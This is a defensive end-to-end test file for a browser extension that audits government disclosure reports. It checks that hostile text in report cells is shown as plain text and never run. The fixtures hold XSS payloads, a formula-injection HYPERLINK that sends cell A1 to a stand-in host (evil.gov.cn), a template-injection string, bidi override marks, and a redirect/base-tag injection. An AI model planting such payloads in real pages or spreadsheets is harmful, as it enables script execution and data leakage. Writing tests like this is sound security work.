/** Text that wants to be more: markup, formulas and marks that turn the direction of what follows, in cells and names. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ElementHandle, Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { card, lit } from '../e2e/drawn.ts';
import { type Harness, KINDS, pasted, rows, start, until } from '../e2e/harness.ts';
import { report } from '../fixtures/index.ts';

const MARKUP = '<img src=x onerror="window.executed=1">';
const SCRIPT = '</td><script>window.executed=1</script>';
const FORMULA = '=HYPERLINK("http://www.evil.gov.cn/"&A1,"8")';
const TURNED = '\u202e73\u2066\u2067';

const fixture = report({
  agency: '云泽市<b onmouseover=window.executed=1>自然资源局',
  faults: {
    title: `云泽市自然资源局2024年政府信息公开工作年度报告${MARKUP}`,
    cells: {
      'disclosure.regulations@made': MARKUP,
      'disclosure.regulations@repealed': SCRIPT,
      'disclosure.regulations@inForce': FORMULA,
      'applications.carriedForward@total': TURNED,
      'proceedings.review@total': '10',
    },
    text: { problems: [`主要问题：${MARKUP}＿＿＿。`, `改进情况：${FORMULA}；{{constructor.constructor('x')()}}。`] },
  },
});

const folder = mkdtempSync(join(tmpdir(), 'crossfoot-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** What a page holds that text alone cannot have put there. */
function grown(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const views = [document, document.querySelector('crossfoot-ui')?.shadowRoot];
    const strange = views.flatMap((root) => [
      ...(root?.querySelectorAll('img, script:not([src]), b[onmouseover]') ?? []),
    ]);
    const made = strange.filter(
      (each) => each.closest('head') === null && !/^data:/.test(each.getAttribute('src') ?? ''),
    );
    return [...made.map(({ outerHTML }) => outerHTML), ...('executed' in window ? ['executed'] : [])];
  });
}

describe.each(KINDS)('hostile text in %s', (kind) => {
  let harness: Harness;
  let page: Page;
  let popup: Page;
  beforeAll(async () => {
    harness = await start(kind);
    page = await harness.open(fixture);
    await until(
      () => harness.badge(fixture.url),
      (badge) => badge !== '',
    );
    popup = await harness.popup(fixture.url);
  });
  afterAll(() => harness?.close());

  it('is shown letter by letter in the popup, and nothing of it is run or loaded', async () => {
    const found = await rows(popup);
    const bad = found.filter(({ rule }) => rule === 'cell-not-a-number').flatMap(({ fields }) => fields);
    expect(bad).toEqual(expect.arrayContaining(['disclosure.regulations@made', 'disclosure.regulations@inForce']));
    const text = await popup.evaluate(() => document.body.textContent);
    expect(text).toContain('<img src=x');
    expect(await grown(popup)).toEqual([]);
    expect(await grown(page)).toEqual([]);
    expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
  });

  it('is shown letter by letter in the card of each finding', async () => {
    for (const row of await popup.$$('[data-rule="cell-not-a-number"]')) {
      await row.evaluate((element) => (element as HTMLElement).click());
      await until(
        () => card(page),
        (text) => text !== null,
      );
      expect(await grown(page)).toEqual([]);
      expect(await card(page)).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    }
    expect((await lit(page))['error']?.length).toBeGreaterThan(2);
  });

  it.each(['findings', 'figures'])('is text in what is copied: %s', async (what) => {
    const popup = await harness.popup(fixture.url);
    const copied = async () => {
      await popup.bringToFront();
      await popup.click(`[data-copy="${what}"]`);
      await popup.waitForFunction(() => document.querySelector('[role="status"].told') !== null);
      return pasted(harness);
    };
    // Another window that comes to the front takes the first click's right to copy.
    const { html, text } = await until(copied, (both) => both.html !== '');
    expect(html).not.toMatch(/<(?:img|script|b on)/i);
    expect(html).toContain('&lt;img src=x');
    // A spreadsheet takes a cell that begins so for a formula, unless it is told that it is text.
    expect(html).not.toMatch(/<td(?![^>]*mso-number-format:'\\@')[^>]*>\s*=/);
    expect(text).not.toMatch(/(?:^|\t)=/m);
    expect(`${html}${text}`).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
    await popup.close();
  });

  it('in a saved file is read as a tree that nothing runs in, and loads nothing', async () => {
    const live =
      '<script>window.executed=1</script><img src="http://www.evil.gov.cn/seen.png" onerror="window.executed=1">';
    const away =
      '<meta http-equiv="refresh" content="0;url=http://www.evil.gov.cn/"><base href="http://www.evil.gov.cn/">';
    const inner = '<iframe srcdoc="<script>parent.executed=1</script>"></iframe><svg onload="window.executed=1"></svg>';
    const file = join(folder, 'report.html');
    writeFileSync(file, fixture.text.replace('<head>', `<head>${away}`).replace('</body>', `${live}${inner}</body>`));
    const opener = await harness.driven.openExtensionPage('file.html');
    const input = (await opener.waitForSelector('input[type="file"]')) as ElementHandle<HTMLInputElement>;
    await input.uploadFile(file);
    await opener.waitForSelector('[data-state="audit"]');
    expect((await rows(opener)).some(({ rule }) => rule === 'cell-not-a-number')).toBe(true);
    expect(await grown(opener)).toEqual([]);
    const after = await opener.evaluate(() => ({
      at: location.pathname,
      asked: performance.getEntriesByType('resource').filter(({ name }) => /evil/.test(name)).length,
      frames: frames.length,
    }));
    expect(after).toEqual({ at: '/file.html', asked: 0, frames: 0 });
    await opener.close();
  });
});
